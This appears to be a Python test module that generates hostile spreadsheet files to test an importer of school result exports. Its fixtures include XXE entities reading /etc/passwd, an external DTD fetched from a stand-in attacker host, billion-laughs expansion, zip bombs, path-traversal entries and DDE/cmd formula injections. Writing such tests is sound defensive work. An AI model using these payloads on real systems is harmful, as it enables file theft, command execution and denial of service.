"""Attacks that are workbooks: xlsx, ods and xls whose parts lie, are broken, or stand for far more than they hold."""

import struct
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

from attack import NUMBER, Attack, Maker, Where, each, files, joined
from conftest import EXPORT_HEADER, row
from exports_for_tests import ods, unzipped, zipped
from mails import beginning_at, locked, of_declared_size, packed_by, with_chains_that_loop, with_damaged_content, with_sizes_that_lie
from xlsx_for_tests import BOOK, RELATIONS, SHARED, SHEET, TYPES, cell, xlsx

_SAMPLES = Path(__file__).parent / "samples" / "cito"
_CELLS = [line.split(";") for line in (EXPORT_HEADER, row(NUMBER, fn="vmbo-kb"))]
_GOOD = xlsx(_CELLS)
_GOOD_ODS = ods(_CELLS)
_PARTS, _ODS_PARTS = unzipped(_GOOD), unzipped(_GOOD_ODS)
_CONTENT = "content.xml"
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
_FROM_FILE = '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
_FROM_WEB = '<!DOCTYPE x SYSTEM "http://aanval.example/x.dtd" [<!ENTITY % p SYSTEM "http://aanval.example/p">%p;<!ENTITY i "x">]>'


def _changed(parts: Mapping[str, bytes], name: str, old: bytes | str, new: bytes | str) -> bytes:
    """The workbook with something in one part replaced, which has to be there."""
    before, after = (text.encode() if isinstance(text, str) else text for text in (old, new))
    assert before in parts[name], (name, old)
    return zipped({**parts, name: parts[name].replace(before, after)})


def _sheet(rows: str) -> bytes:
    """The workbook with these rows below its own."""
    return _changed(_PARTS, SHEET, "</sheetData>", f"{rows}</sheetData>")


def _doctype(parts: Mapping[str, bytes], name: str, doctype: str, entity: str) -> bytes:
    """The workbook with a DOCTYPE in one part, and its entity where the number of the pupil stands."""
    text = parts[name].decode()
    begin = text.index("?>") + 2 if text.startswith("<?xml") else 0
    return zipped(
        {
            **parts,
            name: (text[:begin] + doctype + text[begin:].replace(NUMBER, f"&{entity};").replace("</v>", f"&{entity};</v>", 1)).encode(),
        }
    )


def _hidden_behind(name: str, told: bytes, real: bytes, parts: Mapping[str, bytes] = _PARTS) -> bytes:
    """A workbook whose part tells size and checksum of its first bytes only, and goes on behind them."""
    archive = zipped({**parts, name: told + real})
    content = bytearray(archive)
    checksum, size = zlib.crc32(told), len(told)
    for magic, offset, place in ((b"PK\x03\x04", 14, 30), (b"PK\x01\x02", 16, 46)):
        start = content.find(magic)
        while start >= 0:
            if content[start + place : start + place + len(name)] == name.encode():
                struct.pack_into("<I", content, start + offset, checksum)
                struct.pack_into("<I", content, start + offset + 8, size)
            start = content.find(magic, start + 4)
    return bytes(content)


def _two_of(name: str, first: bytes, second: bytes) -> bytes:
    """A workbook that holds one part twice."""
    stand_in = name[:-1] + "_"
    others = {part: data for part, data in _PARTS.items() if part != name}
    return zipped({**others, stand_in: first, name: second}).replace(stand_in.encode(), name.encode())


def _with_a_second_end(archive: bytes = _GOOD) -> bytes:
    """A zip behind which an empty zip's end stands, in what its own end calls a comment."""
    end = struct.pack(_END, b"PK\x05\x06", 0, 0, 0, 0, 0, 0, 0)
    return archive[:-2] + struct.pack("<H", len(end)) + end


def _with_two_directories(archive: bytes) -> bytes:
    """A zip with its own directory, and one (zip64) of another file: which of the two counts, programs do not agree on."""
    directory, end = archive.index(b"PK\x01\x02"), archive.rindex(b"PK\x05\x06")
    other = zipped({"niets.txt": b"x"})
    other_directory, other_end = other.index(b"PK\x01\x02"), other.rindex(b"PK\x05\x06")
    entry = bytearray(other[other_directory:other_end])
    struct.pack_into("<I", entry, 42, directory)
    files = archive[:directory] + other[:other_directory]
    count, size, place = struct.unpack_from("<H", archive, end + 10)[0], end - directory, len(files)
    begin = files + archive[directory:end] + entry
    large = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, len(entry), place + size)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(begin), 1)
    return begin + large + locator + struct.pack(_END, b"PK\x05\x06", 0, 0, count, count, size, place, 0)


def _under_another_name(parts: Mapping[str, bytes], name: str, stand_in: str) -> bytes:
    """A zip that calls one part otherwise, but for those who read the name in Unicode that stands beside it (0x7075)."""
    archive = zipped({stand_in if part == name else part: data for part, data in parts.items()})
    extra = struct.pack("<HHBI", 0x7075, 5 + len(name), 1, zlib.crc32(stand_in.encode())) + name.encode()
    start, end = archive.index(b"PK\x01\x02"), archive.rindex(b"PK\x05\x06")
    place, directory = start, b""
    while place < end:
        lengths = struct.unpack_from("<3H", archive, place + 28)
        entry = bytearray(archive[place : place + 46 + sum(lengths)])
        place += len(entry)
        if entry[46 : 46 + lengths[0]] == stand_in.encode():
            struct.pack_into("<H", entry, 30, len(extra))
            entry[46 + lengths[0] :] = extra
        directory += entry
    count = struct.unpack_from("<H", archive, end + 10)[0]
    return archive[:start] + directory + struct.pack(_END, b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)


_END = "<4s4H2IH"
"""The end of a zip's directory."""
_MERGED, _DEFINED = '<mergeCell ref="A1:B9"/>', '<definedName name="a">a</definedName>'
_SEPARATE = "".join(f'<row r="{number}"><c r="A{number}"><v>1</v></c></row>' for number in range(3, 1003))
_REFERENCES = {
    "row zero": cell("A0"),
    "no row": cell("A"),
    "no column": cell("12"),
    "negative": cell("A-1"),
    "nothing": cell(""),
    "beyond all": cell("ZZZZZZZZZZ99999999999999999999"),
    "the last cell": cell("XFD1048576"),
    "beyond the last cell": cell("XFE1048577"),
    "backwards": cell("C3") + cell("B3") + cell("A3"),
    "twice": cell("A3") * 100,
    "small letters": cell("a3"),
    "absolute": cell("$A$3"),
    "of another sheet": cell("Blad2!A3"),
    "not ascii": cell("\u0391\u0663"),
}
_CELLS_OF_A_KIND = {
    "index out of range": '<c r="A3" t="s"><v>999999</v></c>',
    "index negative": '<c r="A3" t="s"><v>-1</v></c>',
    "index without end": f'<c r="A3" t="s"><v>{"9" * 400}</v></c>',
    "index that is a word": '<c r="A3" t="s"><v>x</v></c>',
    "index absent": '<c r="A3" t="s"/>',
    "kind unknown": '<c r="A3" t="zzz"><v>1</v></c>',
    "bool that is none": '<c r="A3" t="b"><v>2</v></c>',
    "error unknown": '<c r="A3" t="e"><v>#ZZZ!</v></c>',
    "date that is none": '<c r="A3" t="d"><v>2026-02-31</v></c>',
    "number infinite": '<c r="A3"><v>1e999</v></c>',
    "number negative infinite": '<c r="A3"><v>-inf</v></c>',
    "number nan": '<c r="A3"><v>nan</v></c>',
    "number long": f'<c r="A3"><v>{"1" * 100_000}</v></c>',
    "style out of range": '<c r="A3" s="999999"><v>1</v></c>',
    "style negative": '<c r="A3" s="-1"><v>1</v></c>',
    "formula": '<c r="A3"><f>HYPERLINK("http://aanval.example","x")</f><v>1</v></c>',
    "formula shared without end": '<c r="A3"><f t="shared" ref="A3:XFD1048576" si="0">A1</f></c><c r="B3"><f t="shared" si="9"/></c>',
    "formula array": '<c r="A3"><f t="array" ref="A3:XFD1048576">1</f><v>1</v></c>',
    "formula text": '<c r="A3" t="str"><f>CMD()</f><v>=cmd|A1</v></c>',
    "inline text of many runs": f'<c r="A3" t="inlineStr"><is>{"<r><t>x</t></r>" * 10_000}</is></c>',
    "inline text without text": '<c r="A3" t="inlineStr"/>',
    "escapes of control characters": '<c r="A3" t="inlineStr"><is><t>_x0000__x001B_[31m_x000D_</t></is></c>',
    "nested cells": "<c><v>" * 500 + "</v></c>" * 500,
    "row without end": '<c r="A3"><v>1</v></c></row><row r="4"><c r="A4">',
}
_DATES_IN_CELLS = ("-1", "0", "60", "2958465", "2958466", "1e308", "nan", "-1e308", "1e-308")


def _with_date(value: str) -> bytes:
    styles = _PARTS["xl/styles.xml"].replace(b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>', _DATE_STYLE)
    changed = {**_PARTS, "xl/styles.xml": styles}
    for place in ("A3", "H3"):
        changed[SHEET] = changed[SHEET].replace(
            b"</sheetData>", f'<row r="3"><c r="{place}" s="0"><v>{value}</v></c></row></sheetData>'.encode()
        )
    return zipped(changed)


_DATE_STYLE = b'<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'


def _relation(target: str, more: str = "") -> bytes:
    return _changed(_PARTS, RELATIONS, 'Target="worksheets/sheet1.xml"', f'Target="{target}"{more}')


def _titled(title: str) -> bytes:
    return _changed(_PARTS, BOOK, 'name="Resultaten"', f'name="{title}"')


def _many_sheets(count: int) -> bytes:
    names = "".join(f'<sheet name="S{number}" sheetId="{number + 9}" r:id="rId1"/>' for number in range(count))
    return _changed(_PARTS, BOOK, "</sheets>", f"{names}</sheets>")


def _xlsx_attacks() -> dict[str, Maker]:
    broken = {
        "xlsx cut in half": _GOOD[: len(_GOOD) // 2],
        "xlsx without its end": _GOOD[:-22],
        "xlsx of only its directory": _GOOD[_GOOD.index(b"PK\x01\x02") :],
        "xlsx behind a text": b"MZ" * 100 + _GOOD,
        "xlsx behind a zip": zipped({"x": b"x"}) + _GOOD,
        "xlsx locked": locked(_GOOD),
        "xlsx with wrong checksums": with_damaged_content(_GOOD),
        "xlsx packed by bzip2 it says": packed_by(_GOOD, zipfile.ZIP_BZIP2),
        "xlsx packed by what is unknown": packed_by(_GOOD, 99),
        "xlsx packed by zstd it says": packed_by(_GOOD, 93),
        "xlsx that says it is 4 gigabytes": of_declared_size(_GOOD, 0xFFFFFFFF),
        "xlsx that says it is nothing": of_declared_size(_GOOD, 0),
        "xlsx that says it is one byte": of_declared_size(_GOOD, 1),
        "xlsx with a second end": _with_a_second_end(),
        "xlsx with two directories": _with_two_directories(_GOOD),
        "xlsx without parts": zipped({}),
        "xlsx of one part that begins far away": beginning_at(zipped({SHEET: _PARTS[SHEET]}), 1 << 62),
        "xlsx that is a document": zipped({"[Content_Types].xml": _PARTS[TYPES], "word/document.xml": b"<w/>"}),
        "xlsx of an xlsb": zipped({**_PARTS, "xl/workbook.bin": bytes(100)}),
        "xlsx in an xlsx": zipped({"a.xlsx": _GOOD}),
        "xlsx with a path that leads out": zipped({**_PARTS, "../../../etc/x": b"x", "/etc/x": b"x", "C:\\x": b"x"}),
        "xlsx with macros": zipped({**_PARTS, "xl/vbaProject.bin": bytes(5000)}),
        "xlsx with an external link": zipped(
            {**_PARTS, "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'}
        ),
    }
    parts = {f"xlsx without {name.rpartition('/')[2]}": zipped({k: v for k, v in _PARTS.items() if k != name}) for name in _PARTS}
    empty = {f"xlsx with nothing in {name.rpartition('/')[2]}": zipped({**_PARTS, name: b""}) for name in _PARTS}
    doctypes = {
        f"xlsx with {what} in {name.rpartition('/')[2]}": _doctype(_PARTS, name, doctype, "i")
        for name in (SHEET, SHARED, BOOK, TYPES, RELATIONS)
        for what, doctype in (("laughs", _LAUGHS), ("a file", _FROM_FILE), ("the web", _FROM_WEB))
    }
    references = {f"xlsx cell {name}": _sheet(f'<row r="3">{text}</row>') for name, text in _REFERENCES.items()}
    kinds = {f"xlsx {name}": _sheet(f'<row r="3">{text}</row>') for name, text in _CELLS_OF_A_KIND.items()}
    dates = {f"xlsx date {value}": _with_date(value) for value in _DATES_IN_CELLS}
    lies = {
        "xlsx that claims all cells": _changed(_PARTS, SHEET, '<dimension ref="A1:J2"/>', '<dimension ref="A1:XFD1048576"/>'),
        "xlsx that claims a negative size": _changed(_PARTS, SHEET, '<dimension ref="A1:J2"/>', '<dimension ref="J2:A1"/>'),
        "xlsx that claims nonsense": _changed(_PARTS, SHEET, '<dimension ref="A1:J2"/>', '<dimension ref="::"/>'),
        "xlsx that claims too much": _changed(_PARTS, SHEET, '<dimension ref="A1:J2"/>', f'<dimension ref="A1:Z{"9" * 30}"/>'),
        "xlsx merged all over": _changed(
            _PARTS, SHEET, "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        ),
        "xlsx merged a hundred thousand times": _changed(
            _PARTS, SHEET, "</sheetData>", "</sheetData><mergeCells>" + _MERGED * 100_000 + "</mergeCells>"
        ),
        "xlsx with rows back to front": _sheet('<row r="9"><c r="A9"><v>1</v></c></row><row r="3"><c r="A3"><v>1</v></c></row>'),
        "xlsx with row zero": _sheet('<row r="0"><c><v>1</v></c></row>'),
        "xlsx with a row without end": _sheet(f'<row r="{"9" * 40}"><c><v>1</v></c></row>'),
        "xlsx with a negative row": _sheet('<row r="-5"><c><v>1</v></c></row>'),
        "xlsx with a thousand rows of nobody": _sheet(_SEPARATE),
        "xlsx sheet nested deep": _sheet("<x>" * 100_000),
        "xlsx sheet in utf-16": zipped({**_PARTS, SHEET: _PARTS[SHEET].decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
        "xlsx sheet with nuls": zipped({**_PARTS, SHEET: _PARTS[SHEET].replace(b"<row", b"\0<row")}),
        "xlsx sheet that is cut": zipped({**_PARTS, SHEET: _PARTS[SHEET][:-80]}),
        "xlsx sheet of another namespace": _changed(_PARTS, SHEET, "spreadsheetml/2006/main", "x"),
        "xlsx sheet with a prefix": zipped(
            {
                **_PARTS,
                SHEET: _PARTS[SHEET]
                .replace(b"<", b"<x:")
                .replace(b"<x:/", b"</x:")
                .replace(b"<x:?", b"<?")
                .replace(b"xmlns=", b"xmlns:x="),
            }
        ),
        "xlsx with a part twice": _two_of(SHEET, _PARTS[SHEET], _PARTS[SHEET].replace(b"<v>", b"<v>0")),
        "xlsx with wrong kinds of content": _changed(_PARTS, TYPES, "worksheet+xml", "chartsheet+xml"),
        "xlsx with relations to a file": _relation("file:///etc/passwd", ' TargetMode="External"'),
        "xlsx with relations to the web": _relation("http://aanval.example/sheet1.xml", ' TargetMode="External"'),
        "xlsx with relations that lead out": _relation("../../../../etc/passwd"),
        "xlsx with relations to nothing": _relation(""),
        "xlsx with relations to itself": _relation("workbook.xml"),
        "xlsx with relations to a directory": _relation("worksheets/"),
        "xlsx with an absolute relation": _relation("/xl/worksheets/sheet1.xml"),
        "xlsx with a sheet that has no relation": _changed(_PARTS, BOOK, 'r:id="rId1"', 'r:id="rId99"'),
        "xlsx with sheet title that is a formula": _titled("=1+1"),
        "xlsx with sheet title that is a path": _titled("../../etc/passwd"),
        "xlsx with sheet title of controls": _titled("&#x1b;[31m&#10;&#x7f;x"),
        "xlsx with sheet title in controls of unicode": _titled("\u202e\u2028\x9b{0}%s[red]"),
        "xlsx with sheet title of 100,000 letters": _titled("x" * 100_000),
        "xlsx with sheet title of nothing": _titled(""),
        "xlsx with three hundred times one sheet": _many_sheets(300),
        "xlsx with sheet very hidden": _changed(_PARTS, BOOK, "<sheet ", '<sheet state="veryHidden" '),
        "xlsx with sheet hidden in a way unknown": _changed(_PARTS, BOOK, "<sheet ", '<sheet state="zzz" '),
        "xlsx with two sheets of one title": _changed(
            _PARTS, BOOK, "</sheets>", '<sheet name="Resultaten" sheetId="2" r:id="rId1"/></sheets>'
        ),
        "xlsx of 1904": _changed(_PARTS, BOOK, "<workbookPr ", '<workbookPr date1904="1" '),
        "xlsx with texts that count wrong": _changed(_PARTS, SHARED, 'count="', 'count="99999999'),
        "xlsx with defined names without end": _changed(
            _PARTS, BOOK, "</sheets>", "</sheets><definedNames>" + _DEFINED * 10_000 + "</definedNames>"
        ),
    }
    return each(broken | parts | empty | doctypes | references | kinds | dates | lies)


def _ods_with(rows: str) -> bytes:
    return _changed(_ODS_PARTS, _CONTENT, "</table:table>", f"{rows}</table:table>")


def _ods_attacks() -> dict[str, Maker]:
    cell_of = '<table:table-row><table:table-cell office:value-type="{}" office:value="{}"/></table:table-row>'
    ends = "</table:table-cell></table:table-row>"
    return each(
        {
            "ods cut in half": _GOOD_ODS[: len(_GOOD_ODS) // 2],
            "ods locked": locked(_GOOD_ODS),
            "ods that says it is encrypted": _changed(
                _ODS_PARTS, "META-INF/manifest.xml", "<manifest:file-entry ", '<manifest:file-entry manifest:size="9" '
            ),
            **{f"ods without {name.rpartition('/')[2]}": zipped({k: v for k, v in _ODS_PARTS.items() if k != name}) for name in _ODS_PARTS},
            **{f"ods with nothing in {name.rpartition('/')[2]}": zipped({**_ODS_PARTS, name: b""}) for name in _ODS_PARTS},
            **{
                f"ods with {what} in {name.rpartition('/')[2]}": _doctype(_ODS_PARTS, name, doctype, "i")
                for name in (_CONTENT, "META-INF/manifest.xml")
                for what, doctype in (("laughs", _LAUGHS), ("a file", _FROM_FILE), ("the web", _FROM_WEB))
            },
            "ods number that is none": _ods_with(cell_of.format("float", "x")),
            "ods number infinite": _ods_with(cell_of.format("float", "1e999")),
            "ods number absent": _ods_with('<table:table-row><table:table-cell office:value-type="float"/></table:table-row>'),
            "ods kind unknown": _ods_with(cell_of.format("zzz", "1")),
            "ods date that is none": _ods_with(
                f'<table:table-row><table:table-cell office:value-type="date" office:date-value="2026-02-31">{ends}'
            ),
            "ods time that is none": _ods_with(
                f'<table:table-row><table:table-cell office:value-type="time" office:time-value="PT99999999999999999H">{ends}'
            ),
            "ods formula": _ods_with(f'<table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)">{ends}'),
            "ods repeated zero times": _ods_with('<table:table-row table:number-rows-repeated="0"><table:table-cell/></table:table-row>'),
            "ods repeated less than zero times": _ods_with(
                '<table:table-row table:number-rows-repeated="-1"><table:table-cell/></table:table-row>'
            ),
            "ods repeated in arabic digits": _ods_with(
                f'<table:table-row table:number-rows-repeated="\u0669\u0669"><table:table-cell><text:p>x</text:p>{ends}'
            ),
            "ods text with spaces without end": _ods_with(
                f'<table:table-row><table:table-cell office:value-type="string"><text:p><text:s text:c="4000000000"/></text:p>{ends}'
            ),
            "ods spanned without end": _ods_with(
                f'<table:table-row><table:table-cell table:number-columns-spanned="999999999"><text:p>x</text:p>{ends}'
            ),
            "ods nested tables": _ods_with('<table:table table:name="x">' * 200 + "</table:table>" * 200),
            "ods with a part under another name": _under_another_name(_ODS_PARTS, _CONTENT, "c0ntent.bin"),
            "ods script": zipped({**_ODS_PARTS, "Basic/Standard/x.xml": b"<script/>", "../x": b"x"}),
            "ods with another mimetype": zipped({**_ODS_PARTS, "mimetype": b"application/x-aanval"}),
        }
    )


def _xls_attacks() -> dict[str, Maker]:
    good = (_SAMPLES / "merged-title.xls").read_bytes()

    def patched(*changes: tuple[int, bytes]) -> bytes:
        content = bytearray(good)
        for place, data in changes:
            content[place : place + len(data)] = data
        return bytes(content)

    return each(
        {
            "xls cut in half": good[: len(good) // 2],
            "xls of a header": good[:512],
            "xls whose chains loop": with_chains_that_loop(good),
            "xls whose sizes lie": with_sizes_that_lie(good),
            "xls with sectors of 4 gigabytes": patched((30, b"\x20\x00")),
            "xls with sectors of one byte": patched((30, b"\x00\x00")),
            "xls with a directory elsewhere": patched((48, b"\xfe\xff\xff\x7f")),
            "xls with many tables": patched((44, b"\xff\xff\xff\x7f")),
            "xls with a workbook of nothing": good.replace("Workbook".encode("utf-16-le"), "Niets___".encode("utf-16-le")),
            "xls that says it is locked": patched((good.index(b"\x09\x08\x10\x00") + 20, b"\x2f\x00\x06\x00")),
            "xls of ones": good[:512] + b"\xff" * 20_000,
            "xls of zeros": good[:512] + bytes(20_000),
            "xls that is a mail": good[:8] + bytes(504) + b"Subject: x\r\n\r\n",
        }
    )


def _rows_of(count: int, cells: int) -> bytes:
    one = b"<row>" + b"<c><v>1</v></c>" * cells + b"</row>"
    return one * count


def _texts_of(count: int) -> bytes:
    return b"<si><t>" + (b"x" * 1000) + b"</t></si>" + b"<si><t>y</t></si>" * count


def _heavy() -> dict[str, Maker]:
    head, tail = _PARTS[SHEET].split(b"</sheetData>")
    texts, end = _PARTS[SHARED].split(b"</sst>")
    megabyte = b" " * (1 << 20)
    return {
        "xlsx with a sheet of two gigabytes of blanks": lambda: zipped({**_PARTS, SHEET: head + megabyte * 900 + b"</sheetData>" + tail}),
        "xlsx with a picture of 900 megabytes": lambda: zipped({**_PARTS, "xl/media/image1.png": bytes(900 << 20)}),
        "xlsx with cells behind the size it tells": lambda: _hidden_behind(SHEET, head, _rows_of(200_000, 60)),
        "xlsx with texts behind the size it tells": lambda: _hidden_behind(SHARED, texts, _texts_of(30_000_000)),
        "xlsx with one text behind the size it tells": lambda: _hidden_behind(SHARED, texts + b"<si><t>", b"x" * (1500 << 20)),
        "xlsx with a text of 500 megabytes": lambda: zipped(
            {**_PARTS, SHARED: texts + b"<si><t>" + b"x" * (500 << 20) + b"</t></si></sst>" + end}
        ),
        "xlsx with 20 million texts": lambda: zipped({**_PARTS, SHARED: texts + b"<si><t>y</t></si>" * 20_000_000 + b"</sst>" + end}),
        "xlsx with 30 million rows of nothing": lambda: zipped({**_PARTS, SHEET: head + b"<row/>" * 30_000_000 + b"</sheetData>" + tail}),
        "xlsx with ten million cells": lambda: zipped({**_PARTS, SHEET: head + _rows_of(100_000, 100) + b"</sheetData>" + tail}),
        "xlsx with two far cells": lambda: _sheet('<row r="99999"><c r="Z99999"><v>1</v></c></row>'),
        "xlsx with a far cell in small letters": lambda: _sheet('<row r="1048576"><c r="xfd1048576"><v>1</v></c></row>'),
        "xlsx with a far cell written with blanks": lambda: _sheet('<row r = "1048576"><c r = "XFD1048576"><v>1</v></c></row>'),
        "xlsx with a far cell in entities": lambda: _sheet('<row r="1048576"><c r="&#88;FD1048576"><v>1</v></c></row>'),
        "xlsx with a far row in entities": lambda: _sheet('<row r="&#49;048576"><c r="&#65;1048576"><v>1</v></c></row>'),
        "xlsx with a far cell on a line of its own": lambda: _sheet('<row\nr\n=\n"1048576"><c\nr\n=\n"XFD1048576"><v>1</v></c></row>'),
        "xlsx with a far cell in a sheet called otherwise": lambda: _elsewhere("xl/worksheets/sheet1.bin", "worksheets/sheet1.bin"),
        "xlsx with a far cell in a sheet without suffix": lambda: _elsewhere("xl/x", "x"),
        "xlsx with a far cell in a sheet in a comment's place": lambda: zipped(
            {**_PARTS, SHEET: b"<!--" + b"\0" * 300 + b"-->" + _far(_PARTS[SHEET])}
        ),
        "xlsx with a far cell that only one of two directories has": lambda: _with_two_directories(
            zipped({**_PARTS, SHEET: _far(_PARTS[SHEET])})
        ),
        "xlsx with a far cell before a second end": lambda: _with_a_second_end(zipped({**_PARTS, SHEET: _far(_PARTS[SHEET])})),
        "xlsx with 200 million empty texts": lambda: zipped({**_PARTS, SHARED: texts + b"<si/>" * 200_000_000 + b"</sst>"}),
        "xlsx with thirty sheets of a million cells": lambda: _many_sheets_of(30),
        "xlsx with a million cells without a place": lambda: _sheet(
            '<row r="3" ' + " ".join(f'a{n}="{n}"' for n in range(99)) + ">" + "<c/>" * 1_000_000 + "</row>"
        ),
        "ods with a sheet of 900 megabytes": lambda: zipped(
            {**_ODS_PARTS, _CONTENT: _ODS_PARTS[_CONTENT].replace(b"</table:table>", b" " * (900 << 20) + b"</table:table>")}
        ),
        "ods with rows behind the size it tells": lambda: _hidden_behind(
            _CONTENT, _ODS_PARTS[_CONTENT], b"<table:table-row><table:table-cell/></table:table-row>" * 5_000_000, _ODS_PARTS
        ),
        "ods with three million rows": lambda: _ods_with(
            "<table:table-row><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row>" * 1_000_000
        ),
        "ods with a part that is larger than told": lambda: of_declared_size(
            _ods_with("<table:table-row><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row>" * 500_000), 3000
        ),
        "ods with a sheet under another name": lambda: _under_another_name({**_ODS_PARTS, _CONTENT: _repeated()}, _CONTENT, "c0ntent.bin"),
        "ods with a second sheet elsewhere": lambda: zipped(
            {"Content.xml": _ODS_PARTS[_CONTENT], **_ODS_PARTS, "./content.xml": _repeated(), "x/../content.xml": _repeated()}
        ),
        "ods with columns repeated in a covered cell": lambda: _ods_with(
            '<table:table-row table:number-rows-repeated="100000"><table:covered-table-cell table:number-columns-repeated="16000" '
            'office:value-type="float" office:value="1"/></table:table-row>'
        ),
        "ods with a group of rows repeated": lambda: _ods_with(
            '<table:table-row-group><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
            'table:number-columns-repeated="1024"><text:p>x</text:p></table:table-cell></table:table-row></table:table-row-group>'
        ),
        "ods with many sheets repeated": lambda: _changed(
            _ODS_PARTS,
            _CONTENT,
            "</table:table>",
            "</table:table>" + '<table:table table:name="x"><table:table-row table:number-rows-repeated="1000"><table:table-cell '
            'table:number-columns-repeated="20000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>' * 60,
        ),
        "ods with rows repeated in another namespace": lambda: _ods_with(
            '<t:table-row xmlns:t="urn:x" t:number-rows-repeated="1048576" table:number-rows-repeated="1000000"><table:table-cell '
            'table:number-columns-repeated="1000"><text:p>x</text:p></table:table-cell></t:table-row>'
        ),
    }


def _far(sheet: bytes) -> bytes:
    return sheet.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


def _elsewhere(part: str, target: str) -> bytes:
    """The workbook whose sheet lies in another part, with a far cell in it."""
    parts = {name: data for name, data in _PARTS.items() if name != SHEET}
    parts[RELATIONS] = parts[RELATIONS].replace(b"worksheets/sheet1.xml", target.encode())
    return zipped({**parts, part: _far(_PARTS[SHEET])})


def _many_sheets_of(count: int) -> bytes:
    """The workbook that names one sheet with a million cells again and again."""
    parts = {**_PARTS, SHEET: _PARTS[SHEET].replace(b"</sheetData>", b'<row r="99000"><c r="Z99000"><v>1</v></c></row></sheetData>')}
    names = "".join(f'<sheet name="S{number}" sheetId="{number + 9}" r:id="rId1"/>' for number in range(count))
    return zipped({**parts, BOOK: parts[BOOK].replace(b"</sheets>", f"{names}</sheets>".encode())})


def _repeated() -> bytes:
    return _ODS_PARTS[_CONTENT].replace(
        b"</table:table>",
        b'<table:table-row table:number-rows-repeated="3000"><table:table-cell table:number-columns-repeated="16000" '
        b'office:value-type="string">'
        b"<text:p>x</text:p></table:table-cell></table:table-row></table:table>",
    )


def attacks() -> list[Attack]:
    """All that are workbooks; some lie as Numo's list too."""
    by_suffix = {".xlsx": _xlsx_attacks(), ".ods": _ods_attacks(), ".xls": _xls_attacks()}
    heavy = _heavy()
    lists = {
        f"list {name}": make
        for name, make in by_suffix[".xlsx"].items()
        if name in ("xlsx cut in half", "xlsx locked", "xlsx without its end", "xlsx cell the last cell", "xlsx sheet nested deep")
    }
    return joined(
        *(files(Where.CITO, suffix, makers) for suffix, makers in by_suffix.items()),
        files(Where.NUMO, ".xlsx", lists),
        files(Where.CITO, ".csv", {"xlsx called csv": lambda: _GOOD, "ods called csv": lambda: _GOOD_ODS}),
        files(Where.CITO, ".xlsx", {"csv called xlsx": lambda: b"Leerlingnummer;Klas\n", "ods called xlsx": lambda: _GOOD_ODS}),
        files(Where.CITO, ".ods", {"xlsx called ods": lambda: _GOOD}),
        files(Where.CITO, ".xls", {"xlsx called xls": lambda: _GOOD}),
        files(Where.CITO, ".xlsx", {name: make for name, make in heavy.items() if name.startswith("xlsx")}, heavy=True),
        files(Where.CITO, ".ods", {name: make for name, make in heavy.items() if name.startswith("ods")}, heavy=True),
    )
